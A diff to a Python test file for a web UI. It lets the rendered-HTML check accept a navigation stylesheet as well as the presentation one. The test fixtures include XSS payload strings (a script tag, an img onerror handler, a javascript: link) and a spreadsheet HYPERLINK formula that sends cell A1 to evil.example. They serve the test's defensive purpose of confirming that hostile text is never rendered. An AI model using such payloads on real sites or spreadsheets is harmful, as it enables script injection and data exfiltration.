@@ -17,7 +17,7 @@ from lib.store.db import open_store
 from tests.app_support import copy_store, demo_store_file
 from tests.conftest import store_fingerprint
 from tests.test_pages import open_page
-from ui.modes import PRESENTATION_CSS
+from ui.modes import NAVIGATION_CSS, PRESENTATION_CSS
 
 HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)><b>bold</b> & [link](javascript:alert(2))'
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -56,7 +56,7 @@ def test_hostile_text_is_never_rendered_as_html(monkeypatch, hostile, page, pres
     app = open_page(monkeypatch, hostile, page, area=CSP, present=present)
     assert not app.exception
     for body in _rendered_html(app):
-        assert body == PRESENTATION_CSS, f"raw HTML on {page}: {body[:120]}"
+        assert body in (NAVIGATION_CSS, PRESENTATION_CSS), f"raw HTML on {page}: {body[:120]}"
     # The name is on the page (at least in the area picker), as text: its tags are shown, not obeyed.
     shown = [*(m.value for m in app.markdown), *(s.value for s in app.subheader),
              *app.selectbox(key="sidebar_area").options]
